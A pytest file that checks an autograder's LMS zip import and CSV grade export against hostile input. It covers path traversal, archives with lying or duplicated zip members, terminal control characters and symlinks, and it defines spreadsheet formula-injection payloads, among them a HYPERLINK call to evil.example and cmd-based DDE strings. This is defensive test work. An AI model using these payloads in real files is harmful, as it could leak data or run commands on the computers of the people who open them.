"""Can a student or a damaged download misuse the LMS import (``course collect``) or the CSV export
(``course export``)? Each test is one attempt and the message that says what was stopped."""
import contextlib
import csv

import pytest
from nbgrader.api import Gradebook
from sqlalchemy import event
from sqlalchemy.orm import Session

from autograder.desk import cli
from autograder.engine import students
from autograder.desk.export import ExerciseExport
from test_lms import course, lms_course, read_csv, submitted_files, zip_of  # noqa: F401 (fixtures)

GRACE = "Grace Hopper_4711_assignsubmission_file_/"


def course_files(folder):
    return sorted(p.relative_to(folder) for p in folder.rglob("*"))


@pytest.mark.parametrize("wrapper", ["", "downloads/alpha/"])
def test_is_a_folder_named_after_a_classmate_inside_a_moodle_submission_placed_for_no_one(
        lms_course, tmp_path, capsys, wrapper):
    """Grace's folder holds folders named like Anh's (who submitted) and Ada's (who did not): Anh
    gets Anh's notebook, Ada none, Grace her own; also when the instructor wrapped the download in
    folders."""
    ours = {"Grace Hopper_4711_assignsubmission_file_/alpha.ipynb": b'{"by": "grace"}',
            "Anh Ng_4712_assignsubmission_file_/alpha.ipynb": b'{"by": "anh"}'}
    planted = [GRACE + "Anh Ng_4712_assignsubmission_file_/alpha.ipynb",
               GRACE + "work/Ada Lovelace_4713_assignsubmission_file_/alpha.ipynb",
               GRACE + "Ada Lovelace_4713_assignsubmission_file_alpha.ipynb/alpha.ipynb"]
    archive = zip_of(tmp_path / "moodle.zip", {wrapper + m: data for m, data in
                                                {**ours, **{m: b'{"by": "grace"}' for m in planted}}.items()})
    roster = tmp_path / "roster.csv"
    roster.write_text("id,first_name,last_name,email,lms_user_id\ngrace,Grace,Hopper,,\n")
    assert cli.main(["--course-dir", str(lms_course), "collect", "alpha", str(archive), "--roster", str(roster)]) == 0
    assert submitted_files(lms_course) == ["grace/alpha/alpha.ipynb", "ng/alpha/alpha.ipynb"]
    assert (lms_course / "submitted" / "ng" / "alpha" / "alpha.ipynb").read_bytes() == b'{"by": "anh"}'
    printed = capsys.readouterr().out
    assert "placed 2 notebook(s)" in printed and "not placed: 3 file(s)" in printed
    for member in planted:
        assert (f"  {wrapper}{member}: ignored: a folder inside Grace Hopper_4711_assignsubmission_file_ "
                "named like another student's submission; placed for no one") in printed


def lying_zip(path, claimed):
    """Two Canvas submissions, the second one's headers (local and central) claiming ``claimed``
    bytes of data that holds 1000."""
    zip_of(path, {"nganh_67890_111_alpha.ipynb": b'{"by": "ng"}',
                  "obrienjrsiobhanshiv_12345_222_alpha.ipynb": b"{}" + b" " * 998})
    data = bytearray(path.read_bytes())
    local = data.find(b"PK\x03\x04", 1)
    central = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 1)
    data[local + 22:local + 26] = data[central + 24:central + 28] = claimed.to_bytes(4, "little")
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("claimed, error", [
    (12, "is damaged (Bad CRC-32 for file"),
    (5000, "holds 1000 bytes, not the 5000 its header says"),
])
def test_is_an_archive_with_a_member_whose_header_lies_refused_before_anything_is_written(
        lms_course, tmp_path, capsys, claimed, error):
    archive = lying_zip(tmp_path / "lying.zip", claimed)
    before = course_files(lms_course)
    assert cli.main(["--course-dir", str(lms_course), "collect", "alpha", str(archive)]) == 1
    printed = capsys.readouterr().err
    assert f"lying.zip: the member 'obrienjrsiobhanshiv_12345_222_alpha.ipynb' {error}" in printed
    assert "download the archive from the LMS again; nothing was changed" in printed
    assert len(printed.splitlines()) == 1
    assert course_files(lms_course) == before


def test_is_an_archive_with_two_members_of_one_name_refused(lms_course, tmp_path, capsys):
    archive = zip_of(tmp_path / "twice.zip", {"nganh_67890_111_alpha.ipynb": b"{}"})
    with pytest.warns(UserWarning, match="Duplicate name"):
        zip_of(archive, {"nganh_67890_111_alpha.ipynb": b'{"second": true}'}, mode="a")
    before = course_files(lms_course)
    assert cli.main(["--course-dir", str(lms_course), "collect", "alpha", str(archive)]) == 1
    assert "twice.zip: two members are named 'nganh_67890_111_alpha.ipynb'" in capsys.readouterr().err
    assert course_files(lms_course) == before


ERASE = "\x1b[1A\x1b[2K\r"  # cursor up a line, erase it, back to its start


def test_are_control_characters_of_archive_names_shown_not_obeyed(lms_course, tmp_path, capsys):
    archive = zip_of(tmp_path / "submissions.zip", {
        "obrienjrsiobhanshiv_late_12345_222_alpha.ipynb": b"{}",
        f"nganh_67890_112_notes{ERASE}.pdf": b"%PDF",
        f"Eve{ERASE}_4711_assignsubmission_file_/alpha.ipynb": b"{}",
        f"README{ERASE}\u202e.txt": b"",
    })
    assert cli.main(["--course-dir", str(lms_course), "collect", "alpha", str(archive)]) == 0
    printed = capsys.readouterr().out
    assert not any(c for c in printed if not c.isprintable() and c != "\n"), repr(printed)
    assert "late (as the LMS says): obrien" in printed
    assert r"  nganh_67890_112_notes\x1b[1A\x1b[2K\r.pdf: not a notebook of alpha" in printed
    assert r"  Eve\x1b[1A\x1b[2K\r_4711_assignsubmission_file_/alpha.ipynb: no student" in printed
    assert r"  README\x1b[1A\x1b[2K\r\u202e.txt: not named as" in printed


@pytest.mark.parametrize("student_id, shown", [
    (f"mallory{ERASE}", r"'mallory\x1b[1A\x1b[2K\r'"),
    ("../../escaped", "'../../escaped'"),
    (".", "'.'"),
])
def test_is_a_roster_id_that_is_no_folder_name_refused(lms_course, tmp_path, capsys, student_id, shown):
    roster = tmp_path / "roster.csv"
    with open(roster, "w", newline="") as file:
        csv.writer(file).writerows([["id", "first_name", "last_name", "email", "lms_user_id"],
                                    [student_id, "Mal", "Lory", "", "4242"]])
    archive = zip_of(tmp_path / "submissions.zip", {"lorymal_late_4242_1_alpha.ipynb": b"{}"})
    before = course_files(lms_course)
    assert cli.main(["--course-dir", str(lms_course), "collect", "alpha", str(archive), "--roster", str(roster)]) == 1
    printed = capsys.readouterr().err
    assert not any(c for c in printed if not c.isprintable() and c != "\n"), repr(printed)
    assert f"roster.csv: the student id {shown} cannot name a folder" in printed
    assert course_files(lms_course) == before


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+9)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HOSTILE = [  # id, first name, last name, email, LMS user id
    (FORMULAS[1], "Eve", FORMULAS[0], FORMULAS[3], FORMULAS[2]),
    (FORMULAS[4], FORMULAS[5], "", FORMULAS[4], "-7"),
]


@contextlib.contextmanager
def unguarded_gradebook():
    """Within the block, nbgrader's gradebook writes student records as they come: the course's guard
    (``engine/students.py``, installed in this process once any course command loaded the
    configuration) is lifted, as in a gradebook written before it or by another tool."""
    guarded = event.contains(Session, "before_flush", students._check_students)
    if guarded:
        event.remove(Session, "before_flush", students._check_students)
    try:
        yield
    finally:
        if guarded:
            students.guard_gradebook()


@pytest.fixture(scope="module")
def hostile_course(tmp_path_factory):
    """A gradebook whose students' names, ids, emails and LMS ids are spreadsheet formulas, the
    first one's score negative (an instructor's manual score). The guard refuses such ids where the
    course's commands write students; the CSVs must hold whatever a gradebook holds."""
    folder = tmp_path_factory.mktemp("hostile-course")
    with unguarded_gradebook(), Gradebook(f"sqlite:///{folder / 'gradebook.db'}") as gradebook:
        gradebook.add_assignment("alpha")
        gradebook.add_notebook("alpha", "alpha")
        gradebook.add_grade_cell("test_one", "alpha", "alpha", max_score=2.0, cell_type="code")
        for (sid, first, last, email, lms), score in zip(HOSTILE, (-1.0, 1.5)):
            gradebook.add_student(sid, first_name=first, last_name=last, email=email, lms_user_id=lms)
            gradebook.add_submission("alpha", sid)
            gradebook.find_grade("test_one", "alpha", "alpha", sid).manual_score = score
        gradebook.db.commit()
    return folder


def test_are_formulas_in_names_and_ids_written_to_the_canvas_csv_as_text(hostile_course):
    assert cli.main(["--course-dir", str(hostile_course), "export", "--format", "canvas"]) == 0
    rows = read_csv(hostile_course / "canvas_grades.csv")
    assert rows[1] == ["Points Possible", "", "", "", "", "2"]
    assert sorted(rows[2:]) == sorted([
        ["'" + FORMULAS[0] + ", Eve", "'" + FORMULAS[2], "'" + FORMULAS[1], "'" + FORMULAS[3], "", "0"],
        ["'" + FORMULAS[5], "'-7", "'" + FORMULAS[4], "'" + FORMULAS[4], "", "1.5"],
    ])


def test_are_formulas_written_to_the_exercise_csv_as_text_and_a_negative_score_as_a_number(hostile_course, tmp_path):
    with Gradebook(f"sqlite:///{hostile_course / 'gradebook.db'}") as gradebook:
        ExerciseExport(to=str(tmp_path / "exercises.csv")).export(gradebook)
    rows = read_csv(tmp_path / "exercises.csv")
    assert sorted(rows[1:]) == sorted([["'" + FORMULAS[1], "alpha", "alpha", "one", "-1", "2"],
                                       ["'" + FORMULAS[4], "alpha", "alpha", "one", "1.5", "2"]])


def test_does_collect_write_through_no_link_in_submitted(lms_course, tmp_path, capsys):
    """A student's folder in submitted/ that is a link (unpacked there with ``cp -a``, say) would put
    the notebook wherever it points: refused, nothing written; a link in place of the notebook
    itself is replaced by the file, its target untouched."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (lms_course / "submitted" / "ng").mkdir(parents=True)
    (lms_course / "submitted" / "ng" / "alpha").symlink_to(outside)
    archive = zip_of(tmp_path / "submissions.zip", {"nganh_67890_111_alpha.ipynb": b'{"by": "lms id"}'})
    assert cli.main(["--course-dir", str(lms_course), "collect", "alpha", str(archive)]) == 1
    assert "is a link: remove it" in capsys.readouterr().err and list(outside.iterdir()) == []
    (lms_course / "submitted" / "ng" / "alpha").unlink()
    (lms_course / "submitted" / "ng" / "alpha").mkdir()
    target = tmp_path / "target.txt"
    target.write_text("kept")
    (lms_course / "submitted" / "ng" / "alpha" / "alpha.ipynb").symlink_to(target)
    assert cli.main(["--course-dir", str(lms_course), "collect", "alpha", str(archive)]) == 0
    placed = lms_course / "submitted" / "ng" / "alpha" / "alpha.ipynb"
    assert not placed.is_symlink() and placed.read_bytes() == b'{"by": "lms id"}' and target.read_text() == "kept"
